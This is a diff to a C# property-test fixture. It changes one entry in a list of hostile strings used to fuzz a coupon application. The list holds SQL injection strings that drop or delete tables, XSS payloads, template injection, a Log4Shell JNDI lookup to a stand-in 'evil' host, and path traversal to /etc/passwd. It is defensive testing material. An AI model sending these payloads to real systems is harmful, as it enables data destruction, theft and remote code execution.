@@ -28,7 +28,7 @@ public sealed class HostileInputProperties : IClassFixture<HostileInputTests.See
 
     private static readonly string[] HostileStrings =
     [
-        "' OR 1=1 --", "'; DROP TABLE ck_coupons; --", "\" OR \"\"=\"", "1; DELETE FROM ck_templates", "' UNION SELECT * FROM ck_claims --",
+        "' OR 1=1 --", "'; DROP TABLE ck_coupons; --", "\" OR \"\"=\"", "1; DELETE FROM ck_templates", "' UNION SELECT * FROM ck_coupons --",
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil/a}",
         "../../etc/passwd", "%00", "\u202Eevil", "😀💥", "\uFEFF", "ｔ１", "null", "undefined", "NaN", "0x7fffffff",
     ];
